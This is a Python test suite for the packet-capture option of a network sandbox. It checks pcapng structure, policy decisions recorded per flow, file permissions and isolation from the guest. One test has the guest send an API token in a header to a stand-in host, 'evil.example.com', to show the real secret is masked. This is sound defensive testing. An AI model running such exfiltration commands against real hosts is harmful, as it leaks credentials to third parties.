#!/usr/bin/env python3
"""`run --pcap`: the guest's frames in a file, read here by nothing of ours."""

import os
import pathlib
import stat
import struct
import subprocess

from harness import PLAIN, ROOT, World, main, test

POLICY = """
allow.http { host = "whoami.example.test", name = "the service" }
deny.tcp { ip = "11.0.0.85", reason = "never" }
secret "API_TOKEN" { from = env "API_TOKEN", hosts = { "whoami.example.test" } }
"""
TOKEN = "ghp_" + "Zq7" * 12


def blocks(data):
    """The blocks of a little-endian pcapng file: (type, body)."""
    at = 0
    while at < len(data):
        kind, size = struct.unpack_from("<II", data, at)
        assert size >= 12 and size % 4 == 0 and at + size <= len(data), (at, kind, size)
        assert struct.unpack_from("<I", data, at + size - 4)[0] == size
        yield kind, data[at + 8:at + size - 4]
        at += size


def options(data):
    at, found = 0, {}
    while at < len(data):
        code, size = struct.unpack_from("<HH", data, at)
        if code == 0:
            break
        found[code] = data[at + 4:at + 4 + size]
        at += 4 + (size + 3) // 4 * 4
    return found


def frames(path):
    """(seconds, direction, bytes, comment) of each frame; the header is checked."""
    all_blocks = list(blocks(path.read_bytes()))
    assert [kind for kind, _ in all_blocks[:2]] == [0x0a0d0d0a, 1], all_blocks[:2]
    section, interface = all_blocks[0][1], all_blocks[1][1]
    assert struct.unpack_from("<IHH", section) == (0x1a2b3c4d, 1, 0)
    assert options(section[16:])[4].startswith(b"Sallyport ")
    assert struct.unpack_from("<H", interface)[0] == 1
    assert options(interface[8:])[9] == b"\x09"
    result = []
    for kind, body in all_blocks[2:]:
        assert kind == 6, kind
        number, high, low, kept, length = struct.unpack_from("<5I", body)
        assert number == 0 and kept == length
        more = options(body[20 + (kept + 3) // 4 * 4:])
        direction = struct.unpack("<I", more[2])[0]
        result.append((((high << 32) + low) / 1e9, direction, body[20:20 + kept],
                       more.get(1, b"").decode()))
    return result


def comments(path):
    return [comment for _, _, _, comment in frames(path) if comment]


@test("the wire is in the file, in order, and each flow's first frame says what was decided")
def _(world):
    for user in (ROOT, PLAIN):
        file = world.folder_for(user) / "run.pcapng"
        before = 1e9
        got = world.run("curl -s https://whoami.example.test/x; curl -s -m 5 http://11.0.0.85/; true",
                        policy=POLICY, user=user, env={"API_TOKEN": TOKEN}, options=["--pcap", str(file)])
        got.expect(0)
        assert stat.S_IMODE(file.stat().st_mode) == 0o600 and file.stat().st_uid == user
        wire = frames(file)
        times = [time for time, _, _, _ in wire]
        assert times == sorted(times) and times[0] > before, times
        assert {direction for _, direction, _, _ in wire} == {1, 2}
        guest, gate = bytes.fromhex("020000000002"), bytes.fromhex("020000000001")
        for _, direction, frame, _ in wire:
            assert frame[6:12] == (guest if direction == 1 else gate), frame[:14].hex()
        said = comments(file)
        assert any(c.endswith(", answered by the gate's resolver") for c in said), said
        assert any(c.endswith(", intercepted by the service") for c in said), said
        assert any(", denied by policy.lua:3: denied_by_rule" in c for c in said), said
        flows = [c.split(",")[0] for c in said]
        assert len(flows) == len(set(flows)), said
        # A flow's number is the audit log's.
        denied = got.told(reason="denied_by_rule")["flow"]
        assert any(c.startswith(f"flow {denied}, denied") for c in said), (denied, said)


@test("a secret's value is not in the capture; the guest's own bytes are")
def _(world):
    file = world.folder_for(ROOT) / "run.pcapng"
    got = world.run('curl -s -H "Authorization: Bearer $API_TOKEN" https://whoami.example.test/x;'
                    ' curl -s -H "X-Shown: $API_TOKEN" http://evil.example.com/', policy=POLICY,
                    env={"API_TOKEN": TOKEN}, options=["--pcap", str(file)])
    got.expect(0)
    assert TOKEN.encode() in world.origin.received(), "the server got no token"
    data = file.read_bytes()
    assert TOKEN.encode() not in data
    assert b"X-Shown: ghp_" in data  # Plain HTTP, with the placeholder.


@test("a file that is there is emptied and closed to others; what is no file is refused")
def _(world):
    folder = world.folder_for(ROOT)
    file = folder / "old.pcapng"
    file.write_bytes(b"x" * 100_000)
    file.chmod(0o644)
    world.run("true", options=["--pcap", str(file)]).expect(0)
    frames(file)
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    fifo = folder / "fifo"
    os.mkfifo(fifo)
    for path in (fifo, folder, folder / "none" / "file", pathlib.Path("/dev/null")):
        got = world.run("echo started", options=["--pcap", str(path)])
        assert got.code == 125 and "--pcap" in got.errors and "started" not in got.text, got
    got = world.run("echo started", options=["--no-network", "--pcap", str(file)])
    assert got.code == 125 and "network" in got.errors, got


@test("the sandbox sees neither the file nor can it write to it")
def _(world):
    folder = world.folder_for(ROOT)
    file = folder / "run.pcapng"
    got = world.run("cat /work/run.pcapng | wc -c; echo x > /work/run.pcapng; true",
                    options=["--pcap", str(file), "-v", f"{folder}:/work:ro"])
    assert got.text.split()[0] == "0", got
    refused = world.run("echo started", options=["--pcap", str(file), "-v", f"{folder}:/work"])
    assert refused.code == 125 and "the capture" in refused.errors, refused
    frames(file)


@test("a disk that is full ends the capture, with one notice, and not the sandbox")
def _(world):
    (world.nginx.root / "bulk").write_bytes(os.urandom(1 << 20))
    folder = world.folder_for(ROOT)
    disk = folder / "disk"
    disk.mkdir()
    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=64k", "none", str(disk)], check=True)
    try:
        file = disk / "run.pcapng"
        got = world.run("curl -s -o /dev/null -w '%{size_download} ' https://api.example.test/bulk;"
                        " curl -s -o /dev/null -w '%{http_code}' https://api.example.test/none",
                        policy='allow.http { host = "api.example.test" }', options=["--pcap", str(file)])
        got.expect(0)
        assert got.text.split() == [str(1 << 20), "404"], got
        assert got.errors.count("capture") == 1 and "No space left" in got.errors, got
        assert got.told(method="capture")["transport"] == "control"
        assert len(frames(file)) > 10
    finally:
        subprocess.run(["umount", str(disk)], check=True)


@test("nothing is left behind")
def _(world):
    world.nothing_left()


main(World)
